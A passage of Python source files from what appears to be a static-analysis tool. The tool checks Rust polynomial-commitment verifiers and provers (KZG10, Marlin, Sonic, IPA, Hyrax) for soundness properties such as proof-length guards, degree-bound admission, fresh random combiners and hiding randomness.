            # a message may be repacked into a private struct before it is absorbed (`FirstMessage.com_eval`): the field
            # name is what identifies it
            present = w in got or ("." in w and w.rsplit(".", 1)[-1] in got_fields)
            rep.add("RFS", "%s.check:absorbs:%s" % (sk, w), present,
                    ("%s is absorbed into the verifier's transcript" % w) if present else
                    ("%s no longer reaches any absorb of the verifier (absorbed today: %s): it is not bound by the challenges "
                     "derived from the transcript" % (w, ", ".join(sorted(got)) or "nothing")), vb.span)
    rep.add("R4s", "no-shifted-pairing", True, "every positional pairing in the verifiers' scopes pairs sequences that were "
            "filtered together or not at all (violations are reported per site)", None, nontrivial=False)
    if zips < 1:
        rep.add("R4a", "floor", False, "no proof-vs-claims zip found in any verifier (floor is 1; fail closed)", None)


_run_base_r5f = run


def run(rep, ctx, tier):
    _run_base_r5f(rep, ctx, tier)
    # every transcript-sampled column index is checked (C13's R5f instance: the relation mentions every sampled position)
    from .c13 import sampled_indices_unfiltered
    sampled_indices_unfiltered(rep, ctx)
