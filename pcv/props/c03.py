"""C03: shape and verdict discipline of the verifiers against crafted / malformed proofs."""
from .. import tables as T
from ..rules import influence as R1
from ..rules import verdict as R3
from ..rules import lenguard as R4

CONFIGS_QUICK = ["default"]
CONFIGS_THOROUGH = ["default", "nopar", "r1cs"]

EXPLANATION = (
    "Three static rules over the MIR of every verifier and its callees. R3: the boolean inside every "
    "Result<bool,_> produced by a nested verifier or by Merkle path verification must reach the outcome (a verdict "
    "that is computed and dropped rejects nothing). R1: the payload of every proof field (not merely its shape) must "
    "reach the decision with the transcript cut, so no proof component can be replaced freely. R4: wherever the "
    "verifier zips an adversary-sized proof list with the claims, or encodes a vector taken from the proof, a length "
    "comparison must dominate that use - zip and Reed-Solomon encoding silently accept short / stretched inputs. "
    "These are necessary conditions of C03's shape clauses (empty or truncated proof lists, stretched vectors, "
    "foreign authentication paths); the cryptographic infeasibility of forging is out of reach of this technique.")
RULE = ("instances = verdict call sites + verifier x proof field + proof-vs-claims zip sites + encode calls on proof "
        "vectors; an instance holds iff the flow / dominance fact is established on the type-checked program")


def run(rep, ctx, tier):
    missing = []
    anchors = ctx.verifier_anchors(missing)
    for k in missing:
        rep.add("R1", "%s:anchor" % k, False, "verifier anchor %s not found in the crate (fail closed)" % k, None)
    rep.count("anchors[%s]" % ctx.cfg, len(anchors))
    zips = 0
    for a in anchors:
        g = ctx.graph(a)
        rep.count("bodies_in_scope", len(g.scope))
        R3.run(rep, ctx, a, "R3")
        for name, comp in R1.proof_components(a, ctx.facts):
            ok, detail, where, n = R1.component(ctx, a, comp, cut_sponge=True)
            rep.add("R1", "%s:%s" % (a.key, name), ok, detail, where or a.body.span, nontrivial=n > 0)
        zips += R4.run_zip(rep, ctx, a, "R4a")
        if a.info.get("adt") == "linear_codes::LinearCodePCS":
            n = R4.run_encode(rep, ctx, a, "R4b")
            if n == 0:
                rep.add("R4b", "%s:encode-input" % a.key, False,
                        "no call of LinearEncode::encode on a proof vector found in the linear-code verifier "
                        "(anchor moved? fail closed)", a.body.span)
    if zips < 1:
        rep.add("R4a", "floor", False, "no proof-vs-claims zip found in any verifier (floor is 1; fail closed)", None)
