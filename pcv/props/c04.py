"""C04: degree bounds - admission on the committer/prover side, use of the bound on the verifier side."""
from .. import tables as T
from ..rules import influence as R1
from ..rules import refusal as R5
from ..rules import meet as R1M
from ..rules import variant as R1V

CONFIGS_QUICK = ["default"]
CONFIGS_THOROUGH = ["default", "nopar", "r1cs"]

EXPLANATION = (
    "Static rules over MIR. Committer / prover side (R5, R6a): in `commit` and `open` of MarlinKZG10, SonicKZG10 "
    "and the IPA scheme the degree-bound admission errors (UnsupportedDegreeBound / IncorrectDegreeBound / "
    "TooManyCoefficients) are constructed in dependence of the polynomials, propagated to the result, and a refusal "
    "site dominates every multi-scalar multiplication, so nothing is committed before the bound is admitted "
    "(msm silently truncates to the shorter of bases and scalars). Verifier side (R1, transcript cut): the numeric "
    "degree bound carried by the labelled commitment (the payload of the Option, not its is_some bit) - which, where "
    "the key holds a table of enforced bounds, is matched against that table by an equality-capable comparison "
    "(==, != or a three-way cmp; a lone `<` cannot tell an exact match from the next larger entry) -, the payload of "
    "the shifted commitment, and the verifier key's per-bound shift elements each reach the outcome of `check` and "
    "`batch_check`. R1v: where the commitment has a separate shifted part, its presence is tied to the presence of "
    "the bound on the label by a refusal (a comparison of the two presences that reaches the outcome, or an aborting "
    "unwrap of the shifted part under a test of the bound), so a label claiming a bound is never accepted with the "
    "shifted part dropped. R1f: in `trim` of the two KZG-based schemes the parameters' maximum degree flows (data) "
    "into every shift-related key field (shifted powers, per-bound shift powers / negative powers of h): a shift "
    "taken relative to anything smaller leaves higher powers in the SRS to cheat with. The arithmetic of the shift "
    "itself is not decided.")
EXPLANATION += (" Shared rules: the EquationHasDegreeBounds refusal rows of the combination entry points (a combination that would drop an enforced bound is refused), R17 (binary-searched bound tables and de-duplicated bound lists are sorted), R1L (no shift element kept first-wins or last-wins across a loop).")
RULE = ("instances = 6 admission rows x {variant present+dependent+propagated, admission dominates msm} + Sonic trim "
        "row + verifier anchors x {degree_bound payload, shifted commitment payload, per-bound key elements}")

SHIFT_FIELDS = {
    "sonic_kzg10": [("sonic_pc::data_structures::CommitterKey", "shifted_powers_of_g"),
                    ("sonic_pc::data_structures::CommitterKey", "shifted_powers_of_gamma_g"),
                    ("sonic_pc::data_structures::VerifierKey", "degree_bounds_and_neg_powers_of_h")],
    "marlin_kzg10": [("marlin::marlin_pc::data_structures::CommitterKey", "shifted_powers"),
                     ("marlin::marlin_pc::data_structures::VerifierKey", "degree_bounds_and_shift_powers")],
}
PC = T.PC
MSM = {"msm_bigint", "msm", "msm_unchecked"}
ADMISSION = {
    "marlin_kzg10": ["UnsupportedDegreeBound", "IncorrectDegreeBound", "TooManyCoefficients"],
    "sonic_kzg10": ["UnsupportedDegreeBound", "IncorrectDegreeBound", "TooManyCoefficients"],
    "ipa": ["IncorrectDegreeBound", "TooManyCoefficients"],
}
USIZE = ["usize"]


def run(rep, ctx, tier):
    f = ctx.facts
    for sk, variants in ADMISSION.items():
        info = T.SCHEMES[sk]
        for m in ("commit", "open"):
            b = f.find1(m, self_adt=info["adt"], trait=PC)
            key = "%s.%s" % (sk, m)
            if b is None:
                rep.add("R5", "%s:anchor" % key, False, "%s not found (fail closed)" % key, None)
                continue
            R5.check_row(rep, ctx, "R5", key, b, info["adt"], variants, [T.ROLES[m]["polys"]], MSM)
    # R17: the per-bound tables that get_shift_power / check_degrees_and_bounds binary-search are sorted where the keys
    # are built (every search site of the crate outside evaluate_query_set, which C16 owns)
    from ..rules import sorted as R17
    eq = [x.id for x in f.bodies.values() if x.kind != "Closure" and x.name == "evaluate_query_set" and not x.self_adt and not x.in_trait]
    own = set(f.bodies) - f.closure(eq, None)
    n_sites, n_judged = R17.run(rep, ctx, own, "R17")
    rep.count("R17 search sites", n_sites)
    rep.count("R17 dedup sites", R17.run_dedup(rep, ctx, own, "R17"))
    if n_judged < 1:
        rep.add("R17", "floor", False, "only %d of %d binary-search sites could be traced to the code that builds the table "
                "(counted 3 of 4; floor 1; fail closed)" % (n_judged, n_sites), None)
    # Sonic trim refuses a bound above the supported degree
    b = f.find1("trim", self_adt=T.SCHEMES["sonic_kzg10"]["adt"], trait=PC)
    if b is None:
        rep.add("R5", "sonic_kzg10.trim:anchor", False, "SonicKZG10::trim not found (fail closed)", None)
    else:
        R5.check_row(rep, ctx, "R5", "sonic_kzg10.trim", b, T.SCHEMES["sonic_kzg10"]["adt"], ["UnsupportedDegreeBound"],
                     [[T.ROLES["trim"]["enforced_degree_bounds"]], [T.ROLES["trim"]["supported_degree"]]])
    # R1f: the shift of the degree-bound keys is taken relative to the *maximum* degree of the parameters (the SRS has no
    # higher powers to shift into); the structural part: max_degree flows (data) into every shift-related key field
    for sk, fields in SHIFT_FIELDS.items():
        b = f.find1("trim", self_adt=T.SCHEMES[sk]["adt"], trait=PC)
        if b is None:
            rep.add("R1f", "%s.trim:anchor" % sk, False, "%s::trim not found (fail closed)" % sk, None)
            continue
        from ..flow import Graph, DATA
        g = Graph(f, f.closure([b.id], T.SCHEMES[sk]["adt"]), [b.id], T.SCHEMES[sk]["adt"])
        srcs = [("CALLRES", bid, i) for bid in sorted(g.scope) for i, t in f.bodies[bid].calls()
                if (t.get("callee") or "").endswith("::max_degree")]
        par = g.reach(srcs, kinds=(DATA,), typed=False) if srcs else {}
        reached = {st[0] for st in par}
        for adt, fld in fields:
            ops = []
            for bid in sorted(g.scope):
                for blk in f.bodies[bid].blocks:
                    for st in blk["stmts"]:
                        rv = st["rv"]
                        if rv.get("k") == "agg" and rv.get("adt") == adt and fld in (rv.get("fields") or []):
                            op = rv["ops"][rv["fields"].index(fld)]
                            if op["k"] in ("copy", "move"):
                                ops.append((bid, op["pl"]["l"]))
            key = "%s.trim:max_degree->%s.%s" % (sk, adt.rsplit("::", 1)[-1], fld)
            if not srcs or not ops:
                rep.add("R1f", key, False, "max_degree() call (%d) or the struct literal setting %s (%d) not found in trim (fail closed)"
                        % (len(srcs), fld, len(ops)), b.span)
                continue
            ok = any(o in reached for o in ops)
            rep.add("R1f", key, ok,
                    "the parameters' maximum degree flows into %s" % fld if ok else
                    "%s is computed without the parameters' maximum degree: the shift is not taken relative to the top of the SRS, "
                    "so the same element can serve a larger bound under another key" % fld, b.span)
    # R1v on the committer side: a polynomial that declares a bound is refused when the key enforces no bounds at all
    hb = f.find1("check_degrees_and_bounds", self_adt="kzg10::KZG10", trait="")
    if hb is None:
        rep.add("R1v", "kzg10.check_degrees_and_bounds:anchor", False, "KZG10::check_degrees_and_bounds not found (fail closed)", None)
    else:
        from ..flow import Graph
        gh = Graph(f, f.closure([hb.id], None), [hb.id], None)
        ok, detail, where = R1V.check(ctx, None, ("FIELD", "data_structures::LabeledPolynomial", "degree_bound"), (hb.id, 3), g=gh, span=hb.span)
        rep.add("R1v", "kzg10.check_degrees_and_bounds:bound-needs-enforced-bounds", ok,
                detail.replace("shifted commitment", "key's list of enforced bounds") if ok else
                "a polynomial that declares a degree bound is not refused when the key enforces no bounds at all "
                "(no comparison of the two presences, no refusing unwrap / ok_or of the list under a test of the bound)", where)
    # a combination that would drop an enforced bound is refused (shared with C06): the bound of a term inside an equation
    # is enforced by refusing the equation
    for sk in ("marlin_kzg10", "marlin_pst13", "sonic_kzg10", "ipa"):
        adt = T.SCHEMES[sk]["adt"]
        for m, req in (("open_combinations", [[2], [3, 4]]), ("check_combinations", [[2], [3]])):
            b = f.find1(m, self_adt=adt, trait=PC)
            if b is not None:
                R5.check_row(rep, ctx, "R5", "%s.%s" % (sk, m), b, adt, ["EquationHasDegreeBounds"], req)
                R5.check_abort(rep, ctx, "R5a", "%s.%s" % (sk, m), b, adt,
                               [("STATE", ("FIELD", "data_structures::LinearCombination", "terms"), t_) for t_ in T.SCALARS],
                               "a term's coefficient")
    # verifier side
    missing = []
    anchors = {a.key: a for a in ctx.verifier_anchors(missing)}
    # the degree-bound policy of an equation looks at every term, not at the first matching one (R1L first-match form)
    from ..rules import everyiter as R1D0
    for sk in ("marlin_kzg10", "marlin_pst13", "sonic_kzg10", "ipa"):
        a = anchors.get("%s.check_combinations" % sk)
        if a is not None:
            R1D0.run_last_value(rep, ctx, a, "R1L")
    for sk in ("marlin_kzg10", "sonic_kzg10", "ipa"):
        info = T.SCHEMES[sk]
        db = info.get("degree_bound", {})
        for m in ("check", "batch_check"):
            a = anchors.get("%s.%s" % (sk, m))
            if a is None:
                rep.add("R1", "%s.%s:anchor" % (sk, m), False, "verifier anchor missing (fail closed)", None)
                continue
            comps = [("degree_bound", ("field", T.LC, "degree_bound", USIZE))]
            if "shifted" in db:
                comps.append(("shifted_comm", ("field", db["shifted"][0], db["shifted"][1], db["shifted_payload"])))
            if "vk_field" in db:
                comps.append(("vk_shift_elements", ("field", db["vk_field"][0], db["vk_field"][1],
                                                    T.G1A + T.G2A)))
            for name, comp in comps:
                ok, detail, where, n = R1.component(ctx, a, comp, cut_sponge=True)
                rep.add("R1", "%s:%s" % (a.key, name), ok, detail, where or a.body.span, nontrivial=n > 0)
            bound_table_rules(rep, ctx, a, db)
            # every bounded commitment's own shift element enters the equation: none survives a loop only as the last
            # (or the first) one
            from ..rules import everyiter as R1D
            R1D.run_last_value(rep, ctx, a, "R1L")


def bound_table_rules(rep, ctx, a, db):
    """R1v and R1m on one verifier anchor of a bound-enforcing scheme (shared with C10)."""
    if "shifted" in db:
        ok, detail, where = R1V.check(ctx, a, ("FIELD", T.LC, "degree_bound"), ("FIELD", db["shifted"][0], db["shifted"][1]))
        rep.add("R1v", "%s:bound-and-shifted-part-consistent" % a.key, ok, detail, where)
    if "vk_field" in db:
        # the label's numeric bound is matched *for equality* against the bounds the key was trimmed for
        g = ctx.graph(a)
        A = [("STATE", ("FIELD", T.LC, "degree_bound"), "usize")] if ("FIELD", T.LC, "degree_bound") in g.fwd else []
        vf = ("FIELD", db["vk_field"][0], db["vk_field"][1])
        B = [("STATE", vf, "usize")] if vf in g.fwd else []
        if not A or not B:
            rep.add("R1m", "%s:bound-matched-exactly" % a.key, False, "degree bound or the key's bound table is never read (fail closed)", a.body.span)
        else:
            ok, detail, where = R1M.check(ctx, a, A, B, cut_sponge=True, equality_only=True)
            rep.add("R1m", "%s:bound-matched-exactly" % a.key, ok,
                    "the commitment's degree bound and the key's enforced bounds: %s" % detail +
                    ("" if ok else " - without an equality test a bound the key was not trimmed for is served with a neighbouring entry"),
                    where)
