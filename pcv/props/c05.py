"""C05: batch verifiers - proof-count guards, and live, per-query fresh random combiners."""
from .. import tables as T
from ..rules import influence as R1
from ..rules import lenguard as R4
from ..rules import everyiter as R1D
from ..rules import rng as RNG
from ..engine import short
from ..flow import OUTCOME

CONFIGS_QUICK = ["default"]
CONFIGS_THOROUGH = ["default", "nopar", "r1cs"]

EXPLANATION = (
    "Static rules on the MIR of every batch verifier and its callees. R4a: the zip that pairs the proof list with "
    "the grouped claims is dominated by a comparison of the two lengths (missing or surplus proofs cannot go "
    "unnoticed); where a verifier pairs them by position instead (an index loop), the same comparison must dominate the "
    "indexed read. R1: the verifier's rng parameter can influence the outcome in the four verifiers that take a random "
    "linear combination (a combiner that ignores the rng is constant), and R15: at least one draw from that rng "
    "whose result reaches the outcome sits on a cycle of the control-flow graph, i.e. is re-drawn per query - a "
    "combiner drawn once lets errors planted in two queries cancel. R5s: every Error variant that can be constructed "
    "under a scheme's `check` can be constructed under its `batch_check` (sibling agreement on refusals; most batch "
    "verifiers re-implement the single check). Equality of the batch decision with the "
    "conjunction of single checks is a runtime statement and is not decided.")
EXPLANATION += (" Shared rules: R4s (no positional pairing after an element-dropping adaptor) on the batch verifiers, R3 absence form, R1L, R1d.")
RULE = ("instances = batch anchors x {proof-vs-claims zip sites} + combining verifiers x {rng reaches outcome, "
        "a live draw sits in a loop}; floors: every batch verifier over a proof list has >= 1 such zip")

BATCH = ["kzg10.batch_check", "marlin_kzg10.batch_check", "sonic_kzg10.batch_check", "ipa.batch_check",
         "marlin_pst13.batch_check", "hyrax.batch_check(default)", "linear_codes.batch_check(default)"]
COMBINING = ["kzg10.batch_check", "marlin_kzg10.batch_check", "sonic_kzg10.batch_check", "ipa.batch_check",
             "marlin_pst13.batch_check"]


def run(rep, ctx, tier):
    missing = []
    anchors = {a.key: a for a in ctx.verifier_anchors(missing)}
    f = ctx.facts
    for key in BATCH:
        a = anchors.get(key)
        if a is None:
            rep.add("R4a", "%s:anchor" % key, False, "batch verifier %s not found (fail closed)" % key, None)
            continue
        n = R4.run_zip(rep, ctx, a, "R4a")
        if n < 1:
            # no zip: the proof list may be paired with the claims by position (bounds-checked indexing)
            n = R4.run_positional(rep, ctx, a, "R4a")
        if n < 1:
            # neither: two iterators advanced in lock-step by a `while let`
            n = R4.run_lockstep(rep, ctx, a, "R4a")
        # the verdicts of the per-point checks are accumulated, not overwritten by the last one
        if key == "ipa.batch_check":
            # the batch verifier pins the number of rounds of every proof, like the single check does (F8)
            R4.run_rounds(rep, ctx, a, "ipa_pc::data_structures::Proof", "l_vec", "::succinct_check", "R4r")
        R1D.run_last_value(rep, ctx, a, "R1L")
        # a sub-verifier that rejects by answering None: the variant is looked at where it is called
        from ..rules import verdict as R3
        R3.run_option(rep, ctx, a, "R3")
        # every claim a batch loop extracts takes part in the combined equation on every path to the next claim
        R1D.run_values(rep, ctx, a, "R1d")
        if n < 1:
            rep.add("R4a", "%s:floor" % key, False,
                    "neither a zip of the proof list against the claims nor a positional read of it found in %s (floor 1): the rule would pass vacuously" % key,
                    a.body.span)
    # R5s: whatever the single verifier can refuse, the batch verifier can refuse (sibling agreement; most batch
    # verifiers re-implement the single check instead of calling it)
    from ..rules import siblings as R5S
    n_var = 0
    for sk in sorted({k.split(".")[0] for k in anchors}):
        single = anchors.get("%s.check" % sk)
        batch = anchors.get("%s.batch_check" % sk) or anchors.get("%s.batch_check(default)" % sk)
        if single is None or batch is None:
            continue
        n_var += R5S.run_chain(rep, ctx, sk, [("check", single.body, single.ctx_adt), ("batch_check", batch.body, batch.ctx_adt)], "R5s")
    rep.count("R5s variants compared", n_var)
    if n_var < 8:
        rep.add("R5s", "floor", False, "only %d refusal variants found under the single verifiers (counted 15; fail closed)" % n_var, None)
    for key in COMBINING:
        a = anchors.get(key)
        if a is None:
            continue
        combiner_rules(rep, ctx, a, key)
    # the streaming batch verifier interpolates over its claims by position: no pairing after an element-dropping adaptor
    for a in anchors.values():
        if a.method in ("batch_check", "verify_multi_points"):
            R4.run_shifted_pairing(rep, ctx, a, "R4s")


def combiner_rules(rep, ctx, a, key):
    """R1 / R15 on one combining batch verifier (shared with C03)."""
    f = ctx.facts
    g = ctx.graph(a)
    idx = a.roles.get("rng")
    ok, p = R1.reach_from(ctx, g, [(a.body.id, idx)])
    rep.add("R1", "%s:rng" % key, ok, "rng parameter %s the outcome" % ("can influence" if ok else "cannot influence"),
            a.body.span)
    draws = RNG.draw_sites(f, g.scope, a.ctx_adt)
    live_in_loop = []
    live = []
    for bid, i, t in draws:
        okd, _ = R1.reach_from(ctx, g, [("CALLRES", bid, i)])
        if not okd:
            continue
        live.append((bid, i, t))
        # in a loop of its own body, or in a helper every invocation of which happens inside a loop of a caller
        from ..rules import refusal as R5
        lead = R5.leads_to(g, (bid, i))
        from . import c07 as C07
        if i in RNG.cyclic_blocks(f.bodies[bid]) or any(x in RNG.cyclic_blocks(f.bodies[cb]) for cb, at in lead.items() for x in at) \
                or C07.per_element_body(f, g, a.ctx_adt, bid, 0, set()):
            # (the last: the draw sits in the closure of `fold` / `map` / `for_each`, which runs once per element)
            live_in_loop.append((bid, i, t))
    rep.count("rng_draw_sites", len(draws))
    # R15 (not memoised): no drawn combiner is parked first-wins in a keyed container (`entry(k).or_insert(r)`,
    # `get_or_insert`): every later query that maps to the same key would meet the same combiner
    from ..rules import exact as R11
    drawn = {("CALLRES", bid, i) for bid, i, t in draws}
    memo = None
    for bid in sorted(g.scope):
        body = f.bodies[bid]
        for i, t in body.calls():
            nm = (t.get("callee") or "").rsplit("::", 1)[-1]
            if nm not in ("or_insert", "or_insert_with", "get_or_insert", "get_or_insert_with", "or_insert_with_key") or body.blocks[i]["cleanup"]:
                continue
            for a_ in t["args"][1:]:
                if a_.get("k") not in ("copy", "move"):
                    continue
                srcs, _, _ = R11.origins(g, (bid, a_["pl"]["l"]))
                if srcs & drawn and memo is None:
                    memo = (nm, t["span"])
    rep.add("R15", "%s:combiner-not-memoised" % key, memo is None,
            "no drawn combiner is stored first-wins in a keyed container" if memo is None else
            "the combiner drawn from the rng is parked by `%s` at %s: queries that map to the same key are folded with the same "
            "combiner, so their errors can cancel" % memo, memo[1] if memo else a.body.span)
    if live_in_loop:
        rep.add("R15", "%s:fresh-combiner" % key, True, "random combiner drawn inside the per-query loop at %s" %
                live_in_loop[0][2]["span"], live_in_loop[0][2]["span"])
    else:
        where = live[0][2]["span"] if live else a.body.span
        rep.add("R15", "%s:fresh-combiner" % key, False,
                ("no draw from the rng that reaches the outcome is inside a loop (%d draw site(s), %d live): the "
                 "combiner is the same for every query, so errors in two queries can cancel") % (len(draws), len(live)),
                where)
