"""C06: linear-combination openings - refusal policy, liveness of coefficients / evaluations, and agreement of
the order in which per-polynomial evaluations are shipped and re-attached."""
from .. import tables as T
from ..rules import influence as R1
from ..rules import everyiter as R1D
from ..rules import refusal as R5
from ..rules import keyorder as R9

CONFIGS_QUICK = ["default"]
CONFIGS_THOROUGH = ["default", "nopar", "r1cs"]

EXPLANATION = (
    "Static rules over MIR. R5: open_combinations and check_combinations of the Marlin-generic (MarlinKZG10, "
    "MarlinPST13), Sonic and IPA overrides construct EquationHasDegreeBounds in dependence of the combination and the "
    "polynomials / commitments and propagate it. R1 (transcript cut): in every check_combinations the coefficients and "
    "constant terms of the linear combinations, the claimed combination values, and - in the trait default - the "
    "transmitted per-polynomial evaluations reach the decision. R1d: the coefficient that a combination loop extracts per "
    "term is consumed on every path to the next term - in the constant-term arm (moved to the claimed value) as well as "
    "in the polynomial-term arm (scaling the commitment); liveness alone cannot tell the two apart because either arm "
    "keeps the coefficient live. R5o: a value derived from a term's coefficient is never stored by a map `insert` "
    "whose replaced entry is discarded (two terms with one key would collapse into the last). R1p: in the loops of "
    "open_combinations / check_combinations and the helpers they call, a variable holding scheme data that is carried "
    "from one iteration to the next is an accumulator of that loop (read after it) - nothing that one equation or "
    "term leaves behind in a working variable is applied to the next. R9: the trait default ships `evals` in the iteration "
    "order of one ordered container and re-attaches them by zipping with another; the two containers must be ordered "
    "by the same key type, otherwise two point labels that share a point value shift every later evaluation. "
    "Correctness of the homomorphic combination itself is not decided.")
EXPLANATION += (" Shared rule: R5v (every lookup of a claimed value sits in a loop driven by the query set) on the check_combinations anchors.")
RULE = ("instances = 8 refusal rows + check_combinations anchors x {coefficients, values, proof.evals, coefficient consumed per term} + 1 writer/reader "
        "key-agreement instance")

PC = T.PC
LCOMB = "data_structures::LinearCombination"
BLC = "data_structures::BatchLCProof"


def _keys_unify(wk, rk):
    """the same key type spelled in a generic helper (`(String, T)`) and in the trait method (`(String, <P as
    Polynomial<F>>::Point)`): component-wise equal up to bare generic parameters."""
    import re

    def comps(ty):
        ty = ty.strip()
        if not ty.startswith("("):
            return [ty]
        out, depth, cur = [], 0, ""
        for c in ty[1:-1]:
            if c in "<([":
                depth += 1
            elif c in ">)]":
                depth -= 1
            if c == "," and depth == 0:
                out.append(cur.strip())
                cur = ""
            else:
                cur += c
        out.append(cur.strip())
        return out

    def bare(x):
        return re.fullmatch(r"[A-Z][A-Za-z0-9]{0,3}", x) is not None
    if len(wk) != len(rk):
        return False
    for a, b in zip(sorted(wk), sorted(rk)):
        ca, cb = comps(a), comps(b)
        if len(ca) != len(cb) or not all(x == y or bare(x) or bare(y) for x, y in zip(ca, cb)):
            return False
    return True


def run(rep, ctx, tier):
    f = ctx.facts
    S = T.SCHEMES
    for sk in ("marlin_kzg10", "marlin_pst13", "sonic_kzg10", "ipa"):
        adt = S[sk]["adt"]
        for m, req in (("open_combinations", [[2], [3, 4]]), ("check_combinations", [[2], [3]])):
            b = f.find1(m, self_adt=adt, trait=PC)
            key = "%s.%s" % (sk, m)
            if b is None:
                rep.add("R5", "%s:anchor" % key, False, "%s not found (fail closed)" % key, None)
                continue
            R5.check_row(rep, ctx, "R5", key, b, adt, ["EquationHasDegreeBounds"], req)
            # a degree-bounded polynomial may stand alone in an equation only with coefficient one: refused by an assertion
            R5.check_abort(rep, ctx, "R5a", key, b, adt, [("STATE", ("FIELD", LCOMB, "terms"), t_) for t_ in T.SCALARS],
                           "a term's coefficient")
    # R1p: every equation is combined from a clean slate - what the loops of open_combinations / check_combinations (and
    # of the helpers they call) carry from one equation or term to the next is an accumulator read after the loop
    from ..rules import carried as R1P
    n_loops = n_carried = 0
    for sk in ("marlin_kzg10", "marlin_pst13", "sonic_kzg10", "ipa", None):
        for m in ("open_combinations", "check_combinations"):
            adt = S[sk]["adt"] if sk else None
            b = f.find1(m, self_adt=adt, trait=PC) if sk else f.find1(m, in_trait=PC)
            if b is not None:
                nl, nc = R1P.run(rep, ctx, "%s.%s" % (sk or "default", m), [b.id], adt, "R1p")
                n_loops += nl
                n_carried += nc
    rep.count("R1p loops", n_loops)
    if n_loops < 8 or n_carried < 12:
        rep.add("R1p", "per-item-fresh:floor", False, "only %d per-equation loops / %d carried variables found in the "
                "combination entry points (counted 14 / 25; fail closed)" % (n_loops, n_carried), None)
    missing = []
    anchors = [a for a in ctx.verifier_anchors(missing) if a.method == "check_combinations"]
    if len(anchors) < 6:
        rep.add("R1", "anchors", False, "expected 6 check_combinations anchors, found %d (fail closed)" % len(anchors), None)
    for a in anchors:
        comps = [("coefficients", ("field", LCOMB, "terms", T.SCALARS)),
                 ("values", ("param", "values", T.SCALARS))]
        if a.key.endswith("(default)"):
            comps.append(("proof.evals", ("field", BLC, "evals", T.SCALARS)))
        comps.append(("proof.proof", ("field", BLC, "proof")))
        for name, comp in comps:
            ok, detail, where, n = R1.component(ctx, a, comp, cut_sponge=True)
            rep.add("R1", "%s:%s" % (a.key, name), ok, detail, where or a.body.span, nontrivial=n > 0)
        # R1d: a coefficient the combination loop extracts is consumed on every path to the next term (in the
        # constant-term arm as well as in the polynomial-term arm)
        g = ctx.graph(a)
        if ("FIELD", LCOMB, "terms") in g.fwd:
            R1D.run_values(rep, ctx, a, "R1d", role="coefficients", what="coefficient of an equation term",
                           starts=[("FIELD", LCOMB, "terms")])
        # the claim of every query is looked up under a walk over the query set (shared with C02)
        from ..rules import visited as R5V
        R5V.run(rep, ctx, a, "R5v")
        # a keyed in-place update of a claimed value is driven by a duplicate-free collection of the map's keys
        R5V.run_update_once(rep, ctx, a, "R5u")
        # no coefficient enters the decision only as "the first match" / "the last one" of its kind
        R1D.run_last_value(rep, ctx, a, "R1L")
        from ..rules import overwrite as R5O
        R5O.run(rep, ctx, a, ("FIELD", LCOMB, "terms"), "R5o")
        from ..rules import dedup as R5K
        R5K.run(rep, ctx, a, "R5k")
    # R2: which polynomials get opened / looked up for an equation depends on the labels of its terms, never on their
    # coefficients (a term with a zero or otherwise special coefficient is still a term: the verifier looks its
    # evaluation up)
    hb = None
    for x in f.bodies.values():
        if x.kind != "Closure" and x.name == "lc_query_set_to_poly_query_set" and not x.self_adt:
            hb = x
    if hb is None:
        rep.add("R2", "poly-query-set:anchor", False, "lc_query_set_to_poly_query_set not found (fail closed)", None)
    else:
        from ..flow import Graph, OUTCOME
        g2 = Graph(f, f.closure([hb.id], None), [hb.id], None)
        src = ("FIELD", LCOMB, "terms")
        g2.reach([src], want=OUTCOME)
        control_ok = g2.last_goal is not None
        g2.reach([("STATE", src, t) for t in T.SCALARS], want=OUTCOME)
        leak = g2.last_goal
        rep.add("R2", "poly-query-set:coefficient-independent", control_ok and leak is None,
                "the polynomial query set derived from the equations depends on their terms' labels and not on any coefficient"
                if (control_ok and leak is None) else
                ("positive control failed: the equations' terms do not reach the derived query set at all (fail closed)" if not control_ok else
                 "a coefficient can decide whether a polynomial of an equation is opened / looked up: a term with that "
                 "coefficient is silently left out on one side"), hb.span)
    # R9 on the trait-default pair
    ob = f.find1("open_combinations", in_trait=PC)
    cb = f.find1("check_combinations", in_trait=PC)
    if ob is None or cb is None:
        rep.add("R9", "default:evals-order", False, "trait default open_combinations / check_combinations not found", None)
        return
    wk, wsites = R9.writer_keys(ctx, ob, BLC, "evals")
    rk, rsites = R9.reader_keys(ctx, cb, BLC, "evals")
    if not wsites or not rsites or not wk or not rk:
        rep.add("R9", "default:evals-order", False,
                "could not locate the writer (%d site(s), keys %s) or the reader (%d zip(s), keys %s) of BatchLCProof.evals "
                "(fail closed)" % (wsites, sorted(wk), len(rsites), sorted(rk)), cb.span)
        return
    ok = wk == rk or _keys_unify(wk, rk)
    rep.add("R9", "default:evals-order", ok,
            ("evals are written in the order of a container keyed by %s and re-attached by zipping with a container keyed by %s"
             % (" / ".join(sorted(wk)), " / ".join(sorted(rk)))) +
            ("" if ok else ": the orders differ as soon as two entries of the reader's container share the writer's key"),
            rsites[0])
