"""C07: hiding - provenance and placement of randomness."""
from collections import deque

from .. import tables as T
from ..flow import Graph, OUTCOME, DATA, CTRL, ALIAS, MOVE, SHAPE, DISCR, strip_refs
from ..engine import short, where_of
from ..rules import influence as R1
from ..rules import lenguard as LG
from ..rules import refusal as R5
from ..rules import rng as RNG

CONFIGS_QUICK = ["default"]
CONFIGS_THOROUGH = ["default", "nopar", "r1cs"]

EXPLANATION = (
    "Static rules over MIR for the committers and provers of the hiding schemes. R10: the generator operand of every "
    "draw of randomness reachable from commit/open of KZG10, MarlinKZG10, SonicKZG10, MarlinPST13, the IPA scheme and "
    "Hyrax is (an alias of) the caller's rng parameter - never a generator created in the library, except the one "
    "allow-listed OS-seeded source named in the property itself (Hyrax commit under `parallel`). R1: the rng parameter "
    "can influence the returned commitments / states (commit) and proofs (IPA, Hyrax open), and the commitment "
    "randomness can influence KZG10 proofs. R6b: in the committers whose hiding is optional every draw is control "
    "dependent on a test of the polynomial's hiding bound, so nothing is drawn (and nothing blinded) without one. R5: "
    "R6d: in Hyrax, whose hiding is not optional, every draw lies on every non-refusing path of the body (or loop "
    "iteration) it belongs to - no row or polynomial is committed / opened without its blinding scalar. "
    "R6f: in Hyrax open every draw that flows into a per-polynomial proof is made inside the per-polynomial loop (one "
    "mask per proof, not one per call). R6g: in the IPA and Marlin committers nothing read from the `rand` field of the "
    "commitment randomness flows into its `shifted_rand` (the shifted commitment has a blinding of its own). R6h: no "
    "size operand of a draw (the degree of a random polynomial, the length of a random vector) is data-derived from the "
    "polynomial being hidden - how much randomness is drawn depends on the key, the point and the declared bounds only. R1p: in "
